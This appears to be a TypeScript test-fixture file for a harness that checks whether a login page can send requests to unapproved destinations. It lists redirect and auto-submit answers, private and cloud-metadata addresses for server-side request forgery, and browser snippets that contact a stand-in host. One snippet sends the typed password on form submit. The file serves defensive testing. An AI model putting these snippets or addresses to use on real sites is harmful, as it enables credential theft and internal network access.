/**
 * Attacks of an application, a name server and a script on where requests go.
 */
import type { ApplicationAttack, NameAttack, ScriptAttack } from './destinations.types.js'

/** Answers that lead a browser to an address. */
const answers: readonly (readonly [id: string, words: string, answer: ApplicationAttack['answer']])[] = [
  ['redirect', 'redirects', (other) => ({ headers: { Location: `${other}/x` } })],
  ['refresh', 'refreshes', (other) => ({ headers: { Refresh: `0; url=${other}/x` } })],
  [
    'meta-refresh',
    'refreshes its page',
    (other) => ({ html: `<meta http-equiv=refresh content="0;url=${other}/x">` }),
  ],
  [
    'post',
    'submits a form by POST',
    (other) => ({
      html: `<body onload="document.forms[0].submit()"><form method=post action="${other}/x"><input type=hidden name=a value=b></form>`,
    }),
  ],
  [
    'get',
    'submits a form by GET',
    (other) => ({
      html: `<body onload="document.forms[0].submit()"><form action="${other}/x"><input type=hidden name=a value=b></form>`,
    }),
  ],
  ['button', 'shows a login button', (other) => ({ html: `<a href="${other}/x">Log in here</a>` })],
]

/** Applications that lead browsers elsewhere. */
export const applicationAttacks: readonly ApplicationAttack[] = (
  ['another port', 'webhook address', 'control driver'] as const
).flatMap((to) =>
  answers.map(([id, words, answer]) => ({
    by: 'application' as const,
    id: `application.${to.replaceAll(' ', '-')}.${id}`,
    says: `The login URL of the application ${words} to ${to === 'another port' ? 'another port of its host' : `the origin of its ${to}`}.`,
    to,
    answer,
  })),
)

/** Names that lead into private networks. */
export const nameAttacks: readonly NameAttack[] = [
  ['10.0.0.5', 'a private network'],
  ['172.16.0.1', 'a private network'],
  ['172.31.255.255', 'a private network'],
  ['192.168.1.1', 'a private network'],
  ['127.0.0.1', 'this machine'],
  ['127.255.255.254', 'this machine'],
  ['0.0.0.0', 'this machine'],
  ['169.254.169.254', 'the metadata of a cloud'],
  ['100.64.0.1', 'the network of a provider'],
  ['100.100.100.200', 'the metadata of a cloud'],
  ['192.0.0.192', 'the metadata of a cloud'],
  ['198.18.0.1', 'a test network'],
  ['224.0.0.1', 'a multicast group'],
  ['255.255.255.255', 'everyone on the link'],
  ['::1', 'this machine'],
  ['::', 'this machine'],
  ['fe80::1', 'a link'],
  ['fd00:ec2::254', 'the metadata of a cloud'],
  ['fc00::1', 'a private network'],
  ['fec0::1', 'a site'],
  ['ff02::1', 'a multicast group'],
  ['::ffff:10.0.0.5', 'a private network, in an IPv6 address'],
  ['::ffff:a9fe:a9fe', 'the metadata of a cloud, in an IPv6 address'],
  ['::127.0.0.1', 'this machine, in an IPv6 address'],
  ['::ffff:0:127.0.0.1', 'this machine, in an IPv6 address'],
  ['64:ff9b::192.168.0.1', 'a private network, through a translator'],
  ['64:ff9b:1::1', 'a private translator'],
  ['2002:0a00:0005::1', 'a private network, through 6to4'],
].map(([address = '', what = '']) => ({
  by: 'name',
  id: `name.${address}`,
  says: `The public name of the target leads to ${address}: ${what}.`,
  address,
}))

/** Scripts of a login page in a Chromium. */
export const scriptAttacks: readonly ScriptAttack[] = (
  [
    [
      'fetch',
      'fetch()',
      'fetch(other + "/x", { mode: "no-cors", method: "POST", body: "x" }).catch(() => 0)',
    ],
    ['xhr', 'XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("GET", other + "/x"); x.send()'],
    ['beacon', 'sendBeacon()', 'navigator.sendBeacon(other + "/x", "x")'],
    ['websocket', 'a WebSocket', 'new WebSocket(other.replace("http", "ws"))'],
    ['event-source', 'an EventSource', 'new EventSource(other + "/x")'],
    ['image', 'an image', 'new Image().src = other + "/x"'],
    [
      'script',
      'a script',
      'document.body.append(Object.assign(document.createElement("script"), { src: other + "/x" }))',
    ],
    ['module', 'an import', 'import(other + "/x.js").catch(() => 0)'],
    [
      'worker',
      'a worker',
      'new Worker(URL.createObjectURL(new Blob(["const other = ", JSON.stringify(other), "; fetch(other + `/x`, { mode: `no-cors` }); importScripts(other + `/y`)"])))',
    ],
    ['window', 'a new window', 'window.open(other + "/x")'],
    [
      'frame',
      'a frame',
      'document.body.append(Object.assign(document.createElement("iframe"), { src: other + "/x" }))',
    ],
    [
      'object',
      'an object',
      'document.body.append(Object.assign(document.createElement("object"), { data: other + "/x" }))',
    ],
    [
      'style',
      'a style sheet',
      'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: other + "/x" }))',
    ],
    ['font', 'a font', 'new FontFace("x", "url(" + other + "/x)").load().catch(() => 0)'],
    [
      'prefetch',
      'a prefetch',
      'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: other + "/x" }))',
    ],
    [
      'preconnect',
      'a connection ahead of time',
      'document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: other }))',
    ],
    [
      'prerender',
      'speculation rules',
      'document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [other + "/x"], eagerness: "immediate" }] }) }))',
    ],
    [
      'ping',
      'a ping of a link',
      'document.body.append(Object.assign(document.createElement("a"), { href: "#", ping: other + "/x" })); document.querySelector("a").click()',
    ],
    [
      'web-rtc',
      'WebRTC',
      'const r = new RTCPeerConnection({ iceServers: [{ urls: other.replace("http://", "turn:") + "?transport=tcp", username: "u", credential: "c" }] }); r.createDataChannel("x"); r.createOffer().then((o) => r.setLocalDescription(o))',
    ],
    [
      'password',
      'fetch() with the typed password',
      'addEventListener("submit", (event) => fetch(other + "/x", { method: "POST", mode: "no-cors", body: new FormData(event.target) }).catch(() => 0))',
    ],
  ] as const
).map(([id, what, code]) => ({
  by: 'script',
  id: `script.${id}`,
  says: `A script of the login page reaches for another port with ${what}.`,
  html: (other) =>
    `<body><script>{ const other = ${JSON.stringify(other)}; try { ${code} } catch {} }</script>`,
}))
